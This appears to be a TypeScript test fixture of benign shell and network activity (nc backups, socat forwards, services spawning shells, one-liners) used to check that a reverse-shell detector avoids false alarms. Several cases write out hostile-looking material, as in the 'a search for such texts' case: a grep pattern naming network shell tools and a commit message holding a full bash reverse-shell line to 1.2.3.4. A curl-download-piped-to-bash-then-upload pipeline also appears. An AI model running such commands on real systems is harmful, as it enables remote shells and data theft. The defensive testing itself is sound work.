// Copies over the network, services, and one-liners.
import { benign, SERVER, type Benign } from './benign.js';

export const COPIES: readonly Benign[] = [
  benign('a backup by nc', (host) => {
    const shell = host.login();
    shell.run(['tar', 'czf', '-', '/data']);
    shell.run(['nc', '-N', SERVER, '9000']).connect(SERVER, 9000);
    host.login().run(['bash', '-c', `tar czf - /data | nc -q 1 ${SERVER} 9000`]);
  }),
  benign('a backup by a named pipe and nc', (host) => {
    const shell = host
      .login()
      .run([
        'bash',
        '-c',
        `mkfifo /tmp/p; pg_dump app > /tmp/p & nc ${SERVER} 9000 < /tmp/p; rm /tmp/p`,
      ]);
    shell.run(['mkfifo', '/tmp/p']);
    shell.run(['pg_dump', 'app']);
    shell.run(['nc', SERVER, '9000']).connect(SERVER, 9000);
  }),
  benign('websocat to a service, and telnetd with a log-in', (host) => {
    host
      .login()
      .run(['websocat', `ws://${SERVER}:8080/chat`])
      .connect(SERVER, 8080);
    host
      .running('/sbin/init')
      .run(['busybox', 'telnetd', '-l', '/bin/login'], { exe: '/bin/busybox' })
      .listen(23);
  }),
  benign('a script of julia, a server of erlang', (host) => {
    const code = `using Sockets; c=connect("${SERVER}",5432); println(readline(c))`;
    host.login().run(['julia', '-e', code]).connect(SERVER, 5432);
    host.running('/usr/lib/systemd/systemd').run(['erl', '-noshell', '-s', 'rabbit', 'boot']);
  }),
  benign('a receiver of a backup', (host) => {
    const shell = host.login();
    shell.run(['nc', '-l', '-p', '9000']).listen(9000).accept(SERVER);
    shell.run(['tar', 'xzf', '-']);
  }),
  benign('rsync', (host) => {
    host
      .login()
      .run(['rsync', '-e', 'ssh', '-a', '/data/', 'bak:/data'])
      .run(['ssh', 'bak', 'rsync', '--server'])
      .connect(SERVER, 22);
    host.running('/usr/bin/rsync').listen(873).accept(SERVER).fork();
  }),
  benign('mysqldump, ssh and gzip', (host) => {
    const shell = host
      .running('/usr/sbin/cron')
      .run(['/bin/sh', '-c', 'mysqldump app | gzip | ssh bak "cat > app.gz"']);
    shell.run(['mysqldump', 'app']).connect(SERVER, 3306);
    shell.run(['gzip']);
    shell.run(['ssh', 'bak', 'cat > app.gz']).connect(SERVER, 22);
  }),
  benign('socat as a port forward', (host) => {
    const socat = host
      .login()
      .run(['socat', 'TCP-LISTEN:8080,fork,reuseaddr', `TCP:${SERVER}:80`])
      .listen(8080)
      .accept('198.51.100.30');
    socat.fork().connect(SERVER, 80);
  }),
  benign('socat to a socket of docker and a serial line', (host) => {
    host
      .login()
      .run(['socat', 'TCP-LISTEN:2375,bind=127.0.0.1', 'UNIX-CONNECT:/var/run/docker.sock'])
      .listen(2375, '127.0.0.1');
    host
      .login()
      .run(['socat', `TCP:${SERVER}:7000`, 'FILE:/dev/ttyS0,b9600,raw'])
      .connect(SERVER, 7000);
  }),
  benign('socat that serves a script', (host) => {
    const socat = host
      .login()
      .run(['socat', 'TCP-LISTEN:9999,fork', 'EXEC:/opt/bin/handler.sh'])
      .listen(9999)
      .accept(SERVER);
    socat.fork().exec(['/bin/bash', '/opt/bin/handler.sh']).run(['date']);
  }),
  benign('a small web server of nc', (host) => {
    const shell = host
      .login()
      .run([
        'bash',
        '-c',
        `while true; do echo -e "HTTP/1.1 200 OK\\r\\n\\r\\nok" | nc -l -p 8080 -q 1; done`,
      ]);
    shell.run(['nc', '-l', '-p', '8080', '-q', '1']).listen(8080).accept(SERVER);
  }),
  benign('a log by nc', (host) => {
    host
      .login()
      .run([
        'bash',
        '-c',
        'nc -lk 5140 | while read -r line; do echo "$line" >> /var/log/net.log; done',
      ]);
  }),
  benign('nc with TLS and nc to talk to memcached', (host) => {
    host.login().run(['nc', '-c', 'www.example.com', '443']).connect(SERVER, 443);
    host
      .login()
      .run(['bash', '-c', `echo stats | nc ${SERVER} 11211 | grep bytes`])
      .run(['nc', SERVER, '11211'])
      .connect(SERVER, 11_211);
  }),
  benign('openssl looks at a certificate', (host) => {
    const shell = host
      .login()
      .run([
        'bash',
        '-c',
        'echo | openssl s_client -connect www:443 2>/dev/null | openssl x509 -noout -dates',
      ]);
    shell.run(['openssl', 's_client', '-connect', 'www:443']).connect(SERVER, 443);
    shell.run(['openssl', 'x509', '-noout', '-dates']);
  }),
  benign('telnet and curl test ports', (host) => {
    host.login().run(['telnet', 'mail', '25']).connect(SERVER, 25);
    host.login().run(['curl', '-v', 'telnet://db:5432']).connect(SERVER, 5432);
  }),
  benign('a named pipe for logs', (host) => {
    const shell = host
      .login()
      .run([
        'sh',
        '-c',
        'mkfifo /run/log.pipe; logger -f /run/log.pipe & exec app > /run/log.pipe',
      ]);
    shell.run(['mkfifo', '/run/log.pipe']);
    shell.run(['logger', '-f', '/run/log.pipe']);
  }),
];

export const SERVICES: readonly Benign[] = [
  benign('a web server in python', (host) => {
    host.login().run(['python3', '-m', 'http.server', '8000']).listen(8000).accept(SERVER);
  }),
  benign('a server in node that starts programs', (host) => {
    const node = host
      .login()
      .run(['node', 'server.js'])
      .listen(3000)
      .accept(SERVER)
      .connect(SERVER, 5432);
    node.run(['/bin/sh', '-c', 'convert in.png out.jpg']).run(['convert', 'in.png', 'out.jpg']);
    node.run(['git', 'rev-parse', 'HEAD']);
  }),
  benign('node that evaluates', (host) => {
    host
      .login()
      .run([
        'node',
        '-e',
        "require('net').createConnection(5432,'db').on('connect',()=>process.exit(0))",
      ])
      .connect(SERVER, 5432);
    host.login().run(['node', '-p', 'process.version']);
  }),
  benign('php-fpm with a database and mail', (host) => {
    const worker = host.running('/usr/sbin/php-fpm8.2').accept(SERVER).connect(SERVER, 3306);
    worker.run(['sh', '-c', '/usr/sbin/sendmail -t -i']).run(['/usr/sbin/sendmail', '-t', '-i']);
    worker.run(['sh', '-c', "'/usr/bin/convert' 'a' 'b'"]);
  }),
  benign('apache with CGI', (host) => {
    host
      .running('/usr/sbin/apache2')
      .listen(80)
      .accept(SERVER)
      .fork()
      .exec(['/bin/sh', '/usr/lib/cgi-bin/status.sh'])
      .run(['uptime']);
    host
      .running('/usr/sbin/apache2')
      .accept(SERVER)
      .fork()
      .exec(['/usr/bin/perl', '/usr/lib/cgi-bin/awstats.pl']);
  }),
  benign('postgres, mysql and redis', (host) => {
    host
      .running('/usr/lib/postgresql/15/bin/postgres')
      .listen(5432)
      .accept(SERVER)
      .run(['sh', '-c', 'cp pg_wal/0001 /archive/0001']);
    host.running('/usr/sbin/mysqld').listen(3306).accept(SERVER);
    host.running('/usr/bin/redis-server').listen(6379).accept(SERVER).fork();
  }),
  benign('mail through a pipe', (host) => {
    const master = host.running('/usr/lib/postfix/sbin/local').connect(SERVER, 25);
    master
      .run(['/bin/sh', '-c', '/usr/bin/procmail -a ext'])
      .run(['procmail', '-a', 'ext'])
      .run(['/bin/sh', '-c', 'formail -D 8192 cache']);
  }),
  benign('exim and dovecot', (host) => {
    host
      .running('/usr/sbin/exim4')
      .listen(25)
      .accept(SERVER)
      .run(['/usr/lib/dovecot/deliver', '-d', 'ops']);
  }),
  benign('agents that watch', (host) => {
    host
      .running('/usr/sbin/zabbix_agentd')
      .listen(10_050)
      .accept(SERVER)
      .run(['sh', '-c', 'cat /proc/loadavg']);
    host
      .running('/usr/sbin/nrpe')
      .listen(5666)
      .accept(SERVER)
      .run(['sh', '-c', '/usr/lib/nagios/plugins/check_disk -w 10%']);
    host.running('/usr/bin/telegraf').connect(SERVER, 8086).run(['/bin/sh', '-c', 'sensors']);
    host
      .running('/usr/bin/perl', { comm: 'munin-node' })
      .listen(4949)
      .accept(SERVER)
      .run(['/bin/sh', '/etc/munin/plugins/load']);
  }),
  benign('dhclient and NetworkManager', (host) => {
    host.running('/usr/sbin/dhclient').listen(68).run(['/bin/sh', '/usr/sbin/dhclient-script']);
    host
      .running('/usr/sbin/openvpn')
      .connect(SERVER, 1194, { udp: true })
      .run(['/bin/sh', '/etc/openvpn/update-resolv-conf', 'tun0']);
  }),
  benign('docker and kubectl exec', (host) => {
    host.login().run(['docker', 'exec', '-it', 'web', 'bash']).connectUnix();
    host.running('/usr/bin/containerd-shim-runc-v2').run(['runc', 'exec']).fork().exec(['bash']);
    host.login().run(['kubectl', 'exec', '-it', 'web-0', '--', '/bin/sh']).connect(SERVER, 6443);
    host
      .running('/usr/bin/containerd-shim-runc-v2', { tty: 'pts0' })
      .run(['/bin/sh'], { exe: '/bin/busybox' });
  }),
  benign('docker run that calls nc in a container', (host) => {
    host
      .login()
      .run(['docker', 'run', '--rm', 'busybox', 'sh', '-c', 'nc -z db 5432'])
      .connectUnix();
    const shim = host.running('/usr/bin/containerd-shim-runc-v2');
    shim
      .run(['sh', '-c', 'nc -z db 5432'], { exe: '/bin/busybox' })
      .exec(['nc', '-z', 'db', '5432'], { exe: '/bin/busybox' })
      .connect(SERVER, 5432);
    shim.run(['busybox', 'wc', '-c'], { exe: '/bin/busybox' });
    shim.run(['busybox', 'grep', '-e', 'bash'], { exe: '/bin/busybox' });
  }),
  benign('systemd starts a shell for emergencies, and getty', (host) => {
    host
      .running('/usr/lib/systemd/systemd', { comm: 'systemd' })
      .listen(111)
      .fork()
      .exec(['/bin/sh', '-c', 'exec /sbin/sulogin']);
    host
      .running('/usr/sbin/agetty', { tty: 'tty1' })
      .exec(['login', '--', 'ops'])
      .connect(SERVER, 389)
      .fork()
      .exec(['-bash'], { exe: '/usr/bin/bash' });
  }),
];

export const ONE_LINERS: readonly Benign[] = [
  benign('python that asks for a name, a port, a page', (host) => {
    for (const code of [
      'import socket; print(socket.gethostname())',
      "import socket; s=socket.create_connection(('db',5432),3)",
      'import socket,platform; s=socket.socket(); s.bind(("",0)); print(s.getsockname()[1])',
      "import pymysql; c=pymysql.connect(unix_socket='/run/mysqld.sock').cursor(); c.execute('select 1')",
      'import urllib.request;print(urllib.request.urlopen("http://x").read())',
      'import base64,sys; print(base64.b64decode(sys.argv[1]))',
      'import subprocess; subprocess.run(["ls"])',
    ]) {
      host.login().run(['python3', '-c', code]).connect(SERVER, 80);
    }
  }),
  benign('perl and ruby', (host) => {
    host
      .login()
      .run(['perl', '-MIO::Socket::INET', '-e', 'die unless IO::Socket::INET->new("db:5432")'])
      .connect(SERVER, 5432);
    host.login().run(['perl', '-pi', '-e', 's/socket/port/g', 'a.conf']);
    host.login().run(['perl', '-e', 'system("ls -l")']).run(['sh', '-c', 'ls -l']);
    host.login().run(['ruby', '-rsocket', '-e', 'puts Socket.gethostname']);
    host.login().run(['ruby', '-e', 'puts `hostname`']);
  }),
  benign('perl that unpacks a text, and curl on both sides of a script', (host) => {
    host.login().run(['perl', '-e', 'print unpack("H*", "abc"); system("true")']);
    const text = 'curl -s https://x/list | bash filter.sh | curl -F f=@- https://y';
    host.login().run(['bash', '-c', text]).run(['bash', 'filter.sh']);
  }),
  benign('awk and getline', (host) => {
    host
      .login()
      .run(['awk', 'BEGIN{while(("ls"|getline l)>0) print l}'], { exe: '/usr/bin/gawk' })
      .run(['sh', '-c', 'ls']);
    host.login().run(['awk', '{print $1}', '/tmp/x']);
  }),
  benign('a search for such texts', (host) => {
    host.login().run(['grep', '-rE', '/dev/tcp/|bash -i|nc -e /bin/sh', '/var/www']);
    host.login().run(['vim', '/opt/rules/reverse_shell_socket.toml']);
    host.login().run(['vim', '-c', 'set number', 'socket.c']);
    host.login().run(['git', 'commit', '-m', 'detect bash -i >& /dev/tcp/1.2.3.4/4 0>&1']);
    host.login().run(['man', 'nc']);
  }),
  benign('gdb and strace', (host) => {
    host.login().run(['gdb', '-p', '1234', '-ex', 'bt', '-batch']);
    host.login().run(['strace', '-f', '-e', 'trace=network', '-p', '1234']);
  }),
  benign('expect logs in to a switch', (host) => {
    host
      .login()
      .run(['expect', '-c', 'spawn ssh admin@switch; expect "Password:"; send "x\\r"; interact'])
      .run(['ssh', 'admin@switch'])
      .connect(SERVER, 22);
  }),
  benign('script keeps a record', (host) => {
    host.login().run(['script', '/root/session.log']).run(['bash']);
    host
      .login()
      .run(['script', '-qec', 'docker run -t x', '/dev/null'])
      .run(['sh', '-c', 'docker run -t x']);
  }),
  benign('xterm here and by ssh', (host) => {
    host.login().run(['xterm', '-display', ':0']).run(['bash']);
    host
      .login()
      .run(['xterm', '-display', 'localhost:10.0', '-e', 'top'])
      .connect('127.0.0.1', 6010)
      .run(['top']);
  }),
  benign('a program built in /tmp', (host) => {
    host
      .login()
      .run(['/tmp/go-build1/b001/exe/main'], { exe: '/tmp/go-build1/b001/exe/main' })
      .connect(SERVER, 443)
      .run(['sh', '-c', 'git status']);
    host.login().run(['/bin/sh', '/tmp/install.sh']).run(['/bin/sh', '-c', 'id -u']);
  }),
  benign('poetry shell and nix develop', (host) => {
    host
      .login()
      .run(['poetry', 'shell'], { exe: '/usr/bin/python3.11' })
      .connect(SERVER, 443)
      .run(['/bin/bash', '-i']);
    host
      .login()
      .run(['nix', 'develop'])
      .connect(SERVER, 443)
      .exec(['bash', '--rcfile', '/tmp/nix-shell.1']);
  }),
  benign('parallel, watch and find start shells', (host) => {
    host
      .login()
      .run(['perl', '/usr/bin/parallel', 'gzip', '{}'])
      .run(['/bin/bash', '-c', 'gzip a']);
    host.login().run(['watch', '-n1', 'ss -tn']).run(['sh', '-c', 'ss -tn']);
    host
      .login()
      .run(['find', '/', '-exec', 'sh', '-c', 'echo $1', '_', '{}', ';'])
      .run(['sh', '-c', 'echo $1', '_', '/etc']);
  }),
  benign('a pid that is used again by a log-in', (host) => {
    const curl = host.running('/usr/bin/curl').connect(SERVER, 443);
    curl.exec(['/usr/sbin/sshd', '-R'], { exe: '/usr/sbin/sshd' }).fork().exec(['/bin/bash']);
  }),
];
